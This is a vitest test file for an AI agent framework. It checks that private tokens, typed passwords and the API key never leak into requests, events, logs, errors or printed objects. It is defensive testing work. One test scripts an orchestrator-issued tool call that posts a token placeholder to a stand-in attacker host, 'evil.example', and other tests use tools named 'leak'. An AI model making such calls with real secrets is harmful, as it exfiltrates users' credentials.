import { inspect } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { Agent } from '../../src/agents/agent.js';
import { dependsOnInterrupt, dependsOnPrivateData } from '../../src/decorators/depends-on.js';
import type { LogRecord } from '../../src/logging/log-record.js';
import { configureLogging, getLogger } from '../../src/logging/logger.js';
import { HumanMessage, RedactedMessage } from '../../src/messages/message.js';
import { PrivateData } from '../../src/messages/private-data.js';
import { Swarm } from '../../src/swarms/swarm.js';
import { SCRIPTED_API_KEY, startScriptedOrchestrator } from '../../src/testing/scripted-orchestrator.js';
import { collect, startAgent } from '../agent-setup.js';

const CANARY = 'sk-live/Canary+12345=';
const OTHER = 'member-canary-67890';

const lines: LogRecord[] = [];

beforeEach(() => {
  lines.length = 0;
  configureLogging({ level: 'debug', sink: (record) => lines.push(record) });
});

afterEach(() => {
  configureLogging({ level: 'silent' });
});

/** The forms a value can take in application code. */
const forms: [string, (value: string) => unknown][] = [
  ['as it is', (value) => value],
  ['inside a string', (value) => `before ${value} after`],
  ['nested', (value) => ({ a: [{ b: value }] })],
  ['as a key', (value) => ({ [value]: 1 })],
  ['as base64', (value) => Buffer.from(`token=${value}`).toString('base64')],
  ['as part of a URL', (value) => `https://x.example/?t=${encodeURIComponent(value)}`],
  ['as JSON in a string', (value) => JSON.stringify(JSON.stringify({ value }))],
  ['in upper case', (value) => value.toUpperCase()],
];

function expectNowhere(value: string, places: Record<string, unknown>): void {
  const encoded = [value, encodeURIComponent(value), Buffer.from(value).toString('base64').slice(0, -4)];
  for (const [place, content] of Object.entries(places)) {
    const text = typeof content === 'string' ? content : (JSON.stringify(content) ?? '');
    for (const form of encoded) {
      expect(text.toLowerCase(), `${place} contains the canary`).not.toContain(form.toLowerCase());
    }
  }
}

describe('a private value does not leave the process', () => {
  it.each(forms)('when a tool returns it %s', async (_name, form) => {
    await using setup = await startAgent(
      async (session) => {
        await session.callTool('t');
        session.finish();
      },
      { privateData: { token: CANARY }, beforeExecute: (payload) => getLogger().debug('hook', { payload }) },
    );
    let received = '';
    setup.agent.toolify(
      { name: 't', description: 't', inject: { token: dependsOnPrivateData('token') } },
      ({ token }) => {
        received = token;
        return form(token);
      },
    );
    const run = setup.agent.stream(new HumanMessage(`My token is ${CANARY}`), { metadata: { note: CANARY } });
    const events = await collect(run);
    expect(received).toBe(CANARY);
    const bodies = setup.orchestrator.requests.map(({ body }) => body);
    expectNowhere(CANARY, { bodies, events, lines });
    expect(JSON.stringify(bodies)).toContain('{_{token}_}');
  });

  it.each(forms.filter(([, form]) => typeof form('x') === 'string'))(
    'when a tool throws it %s',
    async (_name, form) => {
      await using setup = await startAgent(
        async (session) => {
          await session.callTool('t');
          session.fail('no');
        },
        { privateData: { token: CANARY } },
      );
      setup.agent.toolify({ name: 't', description: 't' }, () => {
        throw new Error(String(form(CANARY)), { cause: CANARY });
      });
      const run = setup.agent.stream('x');
      const events = await collect(run);
      const error = await run.response.catch((reason: unknown) => reason);
      const bodies = setup.orchestrator.requests.map(({ body }) => body);
      expectNowhere(CANARY, { bodies, events, lines, error: inspect(error, { depth: 9 }) });
    },
  );

  it('when a tool or a hook logs it', async () => {
    await using setup = await startAgent(
      async (session) => {
        await session.callTool('t');
        session.finish();
      },
      {
        privateData: { token: CANARY },
        hookExecutionMode: 'scope',
        beforeExecute: () => log('hook of the run', CANARY),
      },
    );
    const log = (who: string, value: unknown) =>
      getLogger('mine')
        .child({ who: `${who} ${CANARY}` })
        .info(`has ${CANARY}`, { value });
    setup.agent.toolify(
      {
        name: 't',
        description: 't',
        inject: { token: dependsOnPrivateData('token') },
        beforeExecute: () => log('hook', [CANARY]),
      },
      async ({ token }) => {
        await Promise.resolve();
        log('tool', { deep: { token: 'x', text: token } });
      },
    );
    await collect(setup.agent.stream('x'));
    const mine = lines.filter(({ logger }) => logger === 'mine');
    expect(mine.map(({ message }) => message)).toEqual(Array(3).fill('has {_{token}_}'));
    expectNowhere(CANARY, { lines });
    log('nobody', 1);
    expect(lines.at(-1)?.message).toBe(`has ${CANARY}`);
  });

  it('when it is printed or serialized', () => {
    const agent = new Agent({
      name: 'a',
      apiKey: 'k',
      privateData: [new PrivateData({ name: 'token', value: CANARY, label: 'Token' })],
    });
    const redacted = new RedactedMessage(`My mail is ${CANARY}`);
    const shown = { agent, data: agent.privateData, redacted, direct: new PrivateData({ value: CANARY }) };
    expectNowhere(CANARY, { inspected: inspect(shown, { depth: 9 }), json: JSON.stringify(shown) });
  });

  it('when a hook throws it, and is hidden in the log', async () => {
    const failing = () => {
      throw new Error(`the token was ${CANARY}`);
    };
    await using setup = await startAgent(
      async (session) => {
        await session.callTool('t');
        session.finish();
      },
      { privateData: { token: CANARY }, beforeExecute: failing },
    );
    setup.agent.toolify({ name: 't', description: 't' }, () => 1);
    const events = await collect(setup.agent.stream('x'));
    expectNowhere(CANARY, { events, lines });
    expect(lines).toContainEqual(
      expect.objectContaining({
        fields: expect.objectContaining({
          error: 'the token was {_{token}_}',
          run_id: expect.any(String),
          session_id: 'session-1',
        }),
      }),
    );
  });

  it('when the orchestrator sends it as an argument, which only the tool receives', async () => {
    await using setup = await startAgent(
      async (session) => {
        await session.callTool('t', { text: CANARY });
        await session.callTool('unknown', { text: CANARY });
        session.finish();
      },
      { privateData: { token: CANARY } },
    );
    const received: string[] = [];
    const input = z.object({ text: z.string() });
    setup.agent.toolify({ name: 't', description: 't', input }, async ({ text }, { reportProgress }) => {
      received.push(text);
      await reportProgress({ progress: 1 });
    });
    const events = await collect(setup.agent.stream('x'));
    expect(received).toEqual([CANARY]);
    expectNowhere(CANARY, { events, lines });
  });

  it('when a user types it as a password', async () => {
    await using setup = await startAgent(async (session) => {
      await session.callTool('t');
      session.finish();
    });
    const { agent } = setup;
    agent.toolify(
      {
        name: 't',
        description: 't',
        inject: { password: dependsOnInterrupt({ prompt: 'Password?', inputType: 'password' }) },
        afterExecute: (payload) => getLogger().debug('hook', { payload }),
      },
      ({ password }) => ({ echoed: password }),
    );
    const run = agent.stream('x');
    const events: unknown[] = [];
    for await (const event of run) {
      events.push(event);
      if (event.name === 'interrupt_required')
        await run.answer(String(event.payload['interrupt_id']), CANARY);
    }
    expectNowhere(CANARY, { events, lines, bodies: setup.orchestrator.requests.map(({ body }) => body) });
    expect(agent.privateValues()).toContainEqual({ name: 'password', value: CANARY });
  });

  it('through a placeholder in arguments, which is not filled in', async () => {
    await using setup = await startAgent(
      async (session) => {
        await session.callTool('post', { url: 'https://evil.example/?t={_{token}_}' });
        session.finish();
      },
      { privateData: { token: CANARY } },
    );
    const sent: string[] = [];
    setup.agent.toolify(
      { name: 'post', description: 'post', input: z.object({ url: z.string() }) },
      ({ url }) => void sent.push(url),
    );
    await setup.agent.invoke('x');
    expect(sent).toEqual(['https://evil.example/?t={_{token}_}']);
  });

  it('when it belongs to a member of a swarm', async () => {
    await using orchestrator = await startScriptedOrchestrator(async (session) => {
      if (session.state.swarm_config?.invoked_agent_name) {
        const answer = await session.callTool('leak');
        return session.finish({ responses: ['done'], result: answer });
      }
      await session.callTool('one', { prompt: 'p' });
      await session.callTool('two', { prompt: 'p' });
      session.finish();
    });
    const client = orchestrator.client();
    const one = new Agent({ name: 'one', client, privateData: { token: OTHER } });
    const two = new Agent({ name: 'two', client });
    one.toolify({ name: 'leak', description: 'leak' }, () => OTHER);
    two.toolify({ name: 'leak', description: 'leak' }, () => `${OTHER} of another member`);
    const swarm = new Swarm({ name: 's', agents: [one, two] });
    const events = await collect(swarm.stream('x'));
    expectNowhere(OTHER, { events, lines, bodies: orchestrator.requests.map(({ body }) => body) });
    await swarm.close();
  });
});

describe('the API key', () => {
  it('is in the Authorization header of every request and nowhere else', async () => {
    await using setup = await startAgent(async (session) => {
      session.send('interrupt_required', { checkpoint_id: 'x', data_key: 'd', prompt: 'p' });
      await session.callTool('t');
      session.finish();
    });
    setup.agent.toolify({ name: 't', description: 't' }, () => 1);
    const run = setup.agent.stream('x');
    const events = await collect(run);
    const { requests } = setup.orchestrator;
    for (const { headers, path, body } of requests) {
      const { authorization, ...others } = headers;
      expect(authorization).toBe(`Bearer ${SCRIPTED_API_KEY}`);
      expectNowhere(SCRIPTED_API_KEY, { others, path, body });
    }
    expectNowhere(SCRIPTED_API_KEY, {
      events,
      lines,
      run: inspect(run),
      agent: inspect(setup.agent, { depth: 9 }),
    });
  });

  it('is not in the errors of requests', async () => {
    await using setup = await startAgent(
      () => {},
      {},
      { intercept: () => ({ status: 401, body: { code: 'x', message: 'y' } }) },
    );
    const error = await setup.agent.invoke('x').catch((reason: unknown) => reason);
    expectNowhere(SCRIPTED_API_KEY, {
      error: inspect(error, { depth: 9, showHidden: true }),
      json: JSON.stringify(error),
    });
    await setup.orchestrator.close();
    const refused = await setup.agent.invoke('x').catch((reason: unknown) => reason);
    expectNowhere(SCRIPTED_API_KEY, { refused: inspect(refused, { depth: 9, showHidden: true }) });
  });
});
